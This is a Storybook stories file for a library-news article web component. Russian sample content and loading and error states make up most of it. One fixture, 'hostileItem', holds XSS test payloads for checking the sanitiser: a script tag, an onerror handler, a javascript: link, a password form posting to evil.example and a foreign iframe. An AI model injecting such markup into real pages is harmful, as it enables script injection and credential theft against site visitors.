import type { Meta, StoryObj } from '@storybook/web-components-vite';
import { html, nothing } from 'lit';
import type { BiblioArticle } from '../src/components/article/article.js';
import type { NewsItem } from '../src/data/model.js';
import { fixtureUrl } from './support/story-network.js';
import { storyViewsApi } from './support/story-views.js';

type Args = Pick<BiblioArticle, 'headingLevel' | 'registerView'> & {
  item?: NewsItem;
  src?: string;
  feed?: string;
  itemId?: string;
  archiveHref?: string;
  viewsApi?: string;
  share?: string;
  allowEmbeds?: string;
};

const poetryEvening: NewsItem = {
  id: 'news-225',
  url: 'https://library.example/news/225',
  title: 'Вечер поэзии в читальном зале',
  subtitle: 'Встреча с местными поэтами и презентация нового сборника',
  contentHtml: `<p>Шестнадцатого декабря в читальном зале прошёл вечер поэзии. Авторы прочитали новые стихи,
    а гости задали вопросы и получили автографы.</p>
    <h2>Программа</h2>
    <table><tr><th>Время</th><th>Что</th><th>Где</th><th>Кто ведёт</th></tr>
    <tr><td>18:00</td><td>Открытие и приветственное слово</td><td>Читальный зал</td><td>Е. Иванова</td></tr>
    <tr><td>18:30</td><td>Чтение стихов</td><td>Читальный зал</td><td>Авторы сборника</td></tr></table>
    <blockquote>«Библиотека — это место, где слова встречаются с читателями».</blockquote>
    <p>Фотографии вечера — в <a href="https://library.example/gallery/225">галерее</a>.</p>`,
  datePublished: new Date(Date.UTC(2021, 11, 16, 9)),
  image: {
    url: fixtureUrl('article/images/poetry-lead.svg'),
    alt: 'Читальный зал библиотеки',
    width: 800,
    height: 450,
  },
  author: 'Отдел массовой работы',
  tags: ['поэзия', 'встречи', 'читальный зал'],
  views: 225,
};

const hostileItem: NewsItem = {
  id: 'hostile',
  title: 'A body that tries everything',
  contentHtml: `<p>Text stays.<script>alert(1)</script></p>
    <img src="x" onerror="alert(1)" alt="broken image with a handler">
    <p><a href="javascript:alert(1)">javascript: link</a> and <a href="https://culture.example/">a safe one</a></p>
    <form action="https://evil.example/"><input name="password"><button>Log in</button></form>
    <p style="position: fixed; inset: 0; background: red; text-align: center">A style that tried to cover the page</p>
    <iframe src="https://tracker.example/embed" title="An embed from a host that is not allowed"></iframe>
    <p>Самоеслововрусскомязыкекотороенепомещаетсявстрокуникакимобразом.</p>`,
  tags: [],
};

const meta: Meta<Args> = {
  title: 'Elements/biblio-article',
  component: 'biblio-article',
  args: { headingLevel: 2, registerView: false, archiveHref: '/news/' },
  render: (args) =>
    html`<biblio-article
      .item=${args.item}
      src=${args.src ?? nothing}
      feed=${args.feed ?? nothing}
      item-id=${args.itemId ?? nothing}
      archive-href=${args.archiveHref ?? nothing}
      views-api=${args.viewsApi ?? nothing}
      ?register-view=${args.registerView}
      heading-level=${args.headingLevel}
      share=${args.share ?? nothing}
      allow-embeds=${args.allowEmbeds ?? nothing}
    ></biblio-article>`,
  argTypes: { item: { control: false } },
  parameters: {
    docs: {
      description: {
        component: `Usage:

\`\`\`html
<biblio-article
  src="/wp-json/wp/v2/posts/4017"
  archive-href="/news/"
  views-api="/api"
  register-view
  share
  allow-embeds="youtube.com rutube.ru vk.com"
>
  <h1>Вечер поэзии</h1>
  <p>The server-rendered article: shown until the item arrives.</p>
</biblio-article>
\`\`\``,
      },
    },
  },
};
export default meta;

type Story = StoryObj<Args>;

/** An item set from script (e.g. from `biblio-item-select`), with its views and share links. */
export const Article: Story = { args: { item: poetryEvening, share: '' } };

/** Views from the server, registered once per session when the article is seen. */
export const WithViewsServer: Story = {
  args: { item: poetryEvening, viewsApi: storyViewsApi(225), registerView: true },
};

/** One WordPress post at `src`. */
export const FromSrc: Story = { args: { src: fixtureUrl('article/wordpress-post.json') } };

/** `feed` + `item-id`: the item is on the feed's second page. */
export const FromFeed: Story = {
  args: { feed: fixtureUrl('article/feed-page-2.json'), itemId: 'news-225' },
};

/** What the page wrote inside stays until the item arrives (here it never does). */
export const ServerRendered: Story = {
  args: { src: 'story-network:pending' },
  render: (args) =>
    html`<biblio-article src=${args.src!}>
      <h2>Вечер поэзии в читальном зале</h2>
      <p>16 декабря 2021 · Просмотров: 225</p>
      <p>Шестнадцатого декабря в читальном зале прошёл вечер поэзии.</p>
    </biblio-article>`,
};

export const Loading: Story = { args: { src: 'story-network:pending' } };

export const NotFound: Story = {
  args: { feed: fixtureUrl('article/feed-page-2.json'), itemId: 'news-1' },
};

export const ServerError: Story = { args: { src: 'story-network:status/503' } };

/** Scripts, handlers, a form, a page-covering style and a foreign embed: all neutralised. */
export const HostileBody: Story = { args: { item: hostileItem } };

export const Phone320: Story = {
  args: { item: poetryEvening, share: '' },
  decorators: [
    (story) => html`<div style="width: 320px; outline: 1px dashed #888">${story()}</div>`,
  ],
};

export const DarkEnglish: Story = {
  args: { item: { ...poetryEvening, tags: ['poetry'] }, share: 'telegram email copy' },
  globals: { language: 'en', scheme: 'dark' },
};
